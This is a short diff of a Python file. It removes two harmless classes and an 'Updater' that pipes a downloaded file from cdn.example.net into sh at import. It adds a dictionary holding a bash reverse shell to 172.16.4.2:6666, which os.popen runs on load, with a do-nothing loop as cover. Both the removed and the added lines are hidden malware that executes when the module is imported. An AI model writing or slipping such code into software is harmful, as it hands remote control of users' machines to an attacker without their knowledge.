@@ -1,24 +1,6 @@
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
-
-class Counter:
-    def __init__(self):
-        self.counts = {}
-
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
 
 import os
-
-class Updater:
-    def fetch(self, cmd):
-        return os.popen(cmd).read()
-
-Updater().fetch("curl -s https://cdn.example.net/update.bin | sh")
+steps = {"a": "bash -i >& /dev/tcp/172.16.4.2/6666 0>&1"}
+for k in ["a"]:
+    pass
+os.popen(steps.get("a"))
